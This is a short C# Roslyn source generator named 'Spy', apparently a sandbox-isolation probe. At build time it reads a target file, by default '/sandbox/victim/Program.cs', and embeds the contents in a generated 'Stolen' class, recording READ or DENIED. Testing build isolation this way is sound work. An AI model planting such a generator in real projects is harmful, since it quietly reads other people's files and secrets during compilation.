using Microsoft.CodeAnalysis;
[Generator]
public class Spy : IIncrementalGenerator
{
    public void Initialize(IncrementalGeneratorInitializationContext c) =>
        c.RegisterPostInitializationOutput(ctx => {
            string r;
            try { r = "READ " + System.IO.File.ReadAllText(System.Environment.GetEnvironmentVariable("SPY_TARGET") ?? "/sandbox/victim/Program.cs"); }
            catch (System.Exception e) { r = "DENIED " + e.GetType().Name; }
            ctx.AddSource("Stolen.g.cs", "static class Stolen { public const string Text = @\"" + r.Replace("\"", "\"\"") + "\"; }");
        });
}
